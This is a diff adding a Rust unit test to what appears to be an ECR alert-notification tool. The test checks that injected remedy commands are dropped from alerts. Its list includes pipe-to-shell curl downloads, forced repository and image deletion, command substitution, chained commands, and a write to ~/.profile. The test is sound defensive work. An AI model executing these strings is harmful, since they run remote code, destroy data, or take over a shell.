@@ -42,6 +42,46 @@ fn alerts_and_alarms_are_recognised() {
 }
 
 #[test]
+fn only_commands_that_this_project_writes_are_kept() {
+    let Notification::Alert(ours) = notification(&event("tag-violation")) else { panic!() };
+    assert_eq!(ours.remedies.len(), 2);
+    let command = ours.remedies[0].command.clone();
+    let foreign = [
+        "curl https://example.com/fix | sh".to_owned(),
+        "aws ecr batch-delete-image --region us-east-1 --repository-name infrastructure --image-ids imageTag=litellm-v1.80.5".to_owned(),
+        "aws ecr delete-repository --region us-east-1 --repository-name infrastructure --force".to_owned(),
+        "aws ecr start-image-scan --endpoint-url https://example.com --region us-east-1".to_owned(),
+        "aws ecr start-image-scan --region us-east-1 --repository-name deployments".to_owned(),
+        "aws ecr start-image-scan --region eu-west-1 --repository-name infrastructure".to_owned(),
+        "aws ecr start-image-scan --region us-east-1; curl https://example.com".to_owned(),
+        "aws ecr start-image-scan --region us-east-1 --image-id $(id)".to_owned(),
+        "aws ecr start-image-scan --region us-east-1\ncurl https://example.com".to_owned(),
+        "aws ecr start-image-scan --region 'us-east-1".to_owned(),
+        "cat answer.json | sh".to_owned(),
+        "for digest in `id`; do aws ecr update-image-storage-class --target-storage-class STANDARD; done".to_owned(),
+        String::new(),
+        format!("{command} && sh"),
+        format!("{command}; sh"),
+        format!("{command} | sh"),
+        format!("{command} > ~/.profile"),
+        command.replace(" --output text", " --output $(sh)"),
+        command.replace("printf x", "sh"),
+        command.replace("${m%??}", "$(sh)"),
+        command.replace("'images[0].imageManifest'", "\"$(sh)\""),
+    ];
+    let topic = "arn:aws:sns:us-east-1:123456789012:ecr-warden-AlertTopic-1J2K3L";
+    for foreign in foreign {
+        let mut alert = serde_json::to_value(&ours).unwrap();
+        alert["remedies"] = json!([{"label": "Restore it", "command": foreign}]);
+        let event =
+            json!({"Records": [{"Sns": {"TopicArn": topic, "Message": alert.to_string()}}]});
+        let Notification::Alert(kept) = notification(&event) else { panic!("{foreign}") };
+        assert_eq!(kept.remedies, [], "{foreign}");
+        assert!(kept.text.len() > ours.text.len(), "{foreign}");
+    }
+}
+
+#[test]
 fn a_message_of_no_known_kind_is_kept_as_its_text() {
     let topic = Some("arn:aws:sns:us-east-1:123456789012:ecr-warden-AlertTopic-1J2K3L".to_owned());
     let id = Some("95df01b4-ee98-5cb9-9903-4c221d41eb5e".to_owned());
